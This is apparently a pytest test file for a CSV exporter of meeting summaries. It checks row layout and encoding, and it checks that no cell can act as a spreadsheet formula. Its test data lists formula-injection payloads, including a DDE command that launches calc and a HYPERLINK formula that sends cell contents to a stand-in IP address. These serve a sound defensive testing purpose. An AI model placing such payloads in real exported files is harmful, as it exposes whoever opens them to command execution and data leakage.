"""The file for spreadsheets: its rows, its encoding, and that no cell of it is a formula."""

import csv
import re
from dataclasses import replace
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dialogue.kernel.errors import Conflict, Invalid
from dialogue.summaries.distil import distil
from dialogue.summaries.facts import Facts, StageFacts
from dialogue.summaries.writers.csv import write
from dialogue.summaries.writers.guard import guarded
from tests.make.summary import EnglishWords, a_meeting, english, said, the_whole_meeting

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060\xa0 =1+1",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
    "words;=1+1",
    "words; \ufeff＝1+1",
    'words";=1+1',
    "words\n=1+1",
    "words\u2028=1+1",
    "words\r\n-1",
    "-",
]


def written(facts: Facts) -> str:
    return write(distil(facts, "en"), EnglishWords()).decode("utf-8-sig")


def table(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    """As the most gullible spreadsheet sees it: unseen characters skipped, full width folded."""
    return (
        re.match(r"[\s\x00-\x20\xa0\xad\u200b-\u200f\u2060-\u2064\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫]", cell)
        is not None
    )


def test_a_whole_summary_has_all_of_these_rows_and_no_others() -> None:
    meeting, went, people = "Meeting", "How the meeting went", "Who took part and who spoke how much"
    share, quoted, consent = (
        "Share of the conversation",
        "In participants' words",
        "With the author's consent. ",
    )

    found = table(written(the_whole_meeting()))

    assert found == [
        ["Part", "About", "What", "Value", "Language"],
        [meeting, "", "Programme", "Everyday neighbours", "English"],
        [meeting, "", "Room", "A day at school", "English"],
        [meeting, "", "Month", "March 2027", ""],
        [meeting, "", "Number of the meeting", "meeting 3 of 6", ""],
        [meeting, "", "Languages", "English, Armenian, Azerbaijani, Russian", ""],
        [meeting, "", "Status", "published", ""],
        [meeting, "", "Month of erasure, at the latest", "May 2027", ""],
        [went, "1. First word", "Planned minutes", "30", ""],
        [went, "1. First word", "Used minutes", "27", ""],
        [went, "2. Conversation", "Planned minutes", "50", ""],
        [went, "2. Conversation", "Used minutes", "56", ""],
        [went, "3. Closing", "Planned minutes", "10", ""],
        [went, "3. Closing", "Used minutes", "1", ""],
        [went, "4. Time in hand", "Planned minutes", "5", ""],
        [went, "4. Time in hand", "Used minutes", "", ""],
        [people, "Oak", "Participants", "5 to 9", ""],
        [people, "Oak", share, "about half", ""],
        [people, "Linden", "Participants", "5 to 9", ""],
        [people, "Linden", share, "about half", ""],
        ["Moderation", "", "Messages that a moderator read first", "fewer than 5", ""],
        ["Moderation", "", "Requests to a moderator to look", "11", ""],
        ["Announcements", "1", "Text", "We are taking a break of five minutes.", "English"],
        ["Announcements", "2", "Text", "Спасибо всем за этот вечер.", "Russian"],
        [quoted, "1", consent + "Original", "'=2+2; that was the first thing I learnt to write", "English"],
        [
            quoted,
            "2",
            consent + "Translated by an interpreter",
            "They gave us one bun for two, and we shared it by eye.",
            "English",
        ],
        [
            quoted,
            "3",
            consent + "Translated by an interpreter",
            "On the way home we always talked about books.",
            "English",
        ],
    ]


def test_exact_figures_are_plain_numbers_and_too_few_people_are_one_sentence() -> None:
    exact = [row for row in table(written(a_meeting({"c_oak": 10, None: 30}))) if row[0].startswith("Who")]
    small = [row for row in table(written(a_meeting({"c_oak": 10, None: 3}))) if row[0].startswith("Who")]

    part, share = "Who took part and who spoke how much", "Share of the conversation, percent"
    assert exact == [
        [part, "Oak", "Participants", "10", ""],
        [part, "Oak", share, "25", ""],
        [part, "Society not named", "Participants", "30", ""],
        [part, "Society not named", share, "75", ""],
    ]
    assert [row[:3] for row in small] == [[part, "", ""]]


def test_the_file_is_rfc_4180_with_a_byte_order_mark() -> None:
    data = write(distil(a_meeting(quotes=(said('said "yes", twice'),)), "en"), EnglishWords())

    assert data.startswith(b"\xef\xbb\xbfPart,About,What,Value,Language\r\n")
    assert data.endswith(b'Original,"said ""yes"", twice",English\r\n')
    assert data.count(b"\n") == data.count(b"\r\n")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_however_the_file_is_parted(formula: str, delimiter: str) -> None:
    facts = replace(
        a_meeting({"c_oak": 12, "c_linden": 12}, quotes=(said(formula),)),
        programme=english(formula),
        room=english(formula),
        stages=(StageFacts(1, english(formula), 5, 5),),
        announcements=(english(formula),),
    )

    found = [cell for row in table(written(facts), delimiter) for cell in row if is_formula(cell)]

    assert found == []


@given(
    st.text(alphabet="=+-@＝＋－＠;,\"' \t\r\n\ufeff\u200ba1", max_size=30), st.sampled_from([",", ";", "\t"])
)
def test_no_words_at_all_make_a_formula(words: str, delimiter: str) -> None:
    found = table(written(a_meeting(quotes=(said(words),))), delimiter)

    assert [cell for row in found for cell in row if is_formula(cell)] == []


@pytest.mark.parametrize("words", ["a - b", "2 = 2, said she", "so; and then", "me@example.org", "1+1"])
def test_ordinary_words_stay_as_they_are(words: str) -> None:
    assert guarded(words) == words


def test_a_draft_is_not_written_and_words_of_another_language_are_refused() -> None:
    with pytest.raises(Conflict):
        write(distil(replace(a_meeting(), status="draft"), "en"), EnglishWords())
    with pytest.raises(Invalid):
        write(distil(a_meeting(), "az"), EnglishWords("en"))
